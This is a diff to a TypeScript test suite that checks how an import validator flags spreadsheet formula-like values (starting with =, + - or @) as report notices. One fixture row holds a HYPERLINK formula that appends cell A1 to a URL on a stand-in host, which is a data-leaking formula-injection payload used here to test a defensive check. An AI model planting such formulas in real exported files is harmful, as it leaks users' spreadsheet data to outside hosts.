@@ -11,6 +11,7 @@ import {
   type ValidationRule,
 } from './validation.ts';
 import { maskValue } from '../security/index.ts';
+import { mergeReports } from './push-sessions.ts';
 
 function item(
   name: string,
@@ -752,5 +753,81 @@ describe('ValidationReport', () => {
   it('refuses the result of another entry', () => {
     const other: RowResult = { row: 1, valid: true, problems: [], values: {}, filled: [true] };
     expect(() => new ValidationReport(items).add(other)).toThrow(RangeError);
+  });
+});
+
+describe('formula-like values: a notice in the report, not an error', () => {
+  const items = [
+    item('name', '名称', 'string', 200),
+    item('note', '备注', 'string', 200),
+    item('amount', '金额', 'decimal', 12),
+    item('count', '数量', 'integer', 6),
+    item('owner', '联系人', 'string', 50, false, 3),
+  ];
+  const rows: (string | null)[][] = [
+    ['=HYPERLINK("http://example.com/?q="&A1,"点击")', 'ok', '-3.5', '-7', '张三'],
+    ['普通', '+86 24 2200', '1', '2', '=李四'],
+    ['@SUM(A1:A9)', '-2+3', '-0.25', '-1', null],
+    // Stored trimmed: a tab or spaces before = do not hide it.
+    ['\t =1+1', null, null, null, null],
+    ['a=b', 'x-y', null, null, null],
+  ];
+  function run(from: number, to: number) {
+    const validator = createValidator(items);
+    const report = new ValidationReport(items);
+    rows.slice(from, to).forEach((r, i) => report.add(validator.validate(r, { row: from + i + 2 })));
+    return report.summary();
+  }
+
+  it('counts per text item the values beginning with = + - @, with the first row and value; numbers are data', () => {
+    const summary = run(0, rows.length);
+    expect(summary.problemCount).toBe(0);
+    expect(summary.validRows).toBe(rows.length);
+    expect(summary.notices?.map(({ message: _, ...n }) => n)).toEqual([
+      {
+        code: 'formula_like',
+        field: 'name',
+        column: '名称',
+        count: 3,
+        firstRow: 2,
+        firstValue: '=HYPERLINK("http://example.com/?q="&A1,"点击")',
+      },
+      {
+        code: 'formula_like',
+        field: 'note',
+        column: '备注',
+        count: 2,
+        firstRow: 3,
+        firstValue: '+86 24 2200',
+      },
+      // A sensitive item's value is masked, as in problems.
+      { code: 'formula_like', field: 'owner', column: '联系人', count: 1, firstRow: 3, firstValue: '***' },
+    ]);
+    const name = summary.notices?.[0]?.message;
+    expect(name?.zh).toContain('“名称”有 3 个值');
+    expect(name?.zh).toContain('第 2 行');
+    expect(name?.zh).toContain('公式');
+    expect(name?.en).toContain('3 values of 名称 (name)');
+    expect(name?.en).toContain('row 2');
+  });
+
+  it('has no notices when no value is formula-like', () => {
+    expect(run(4, 5).notices).toEqual([]);
+  });
+
+  it('adds up over the batches of a push session, keeping the first row', () => {
+    const merged = mergeReports(mergeReports(run(0, 1), run(1, 3)), run(3, 5));
+    expect(merged.notices?.map((n) => [n.field, n.count, n.firstRow])).toEqual([
+      ['name', 3, 2],
+      ['note', 2, 3],
+      ['owner', 1, 3],
+    ]);
+    expect(merged.notices?.[0]?.message.zh).toContain('有 3 个值');
+    // A report stored before there were notices has none to add.
+    const { notices: _, ...old } = run(0, 1);
+    expect(mergeReports(old, run(1, 2)).notices?.map((n) => [n.field, n.count])).toEqual([
+      ['note', 1],
+      ['owner', 1],
+    ]);
   });
 });
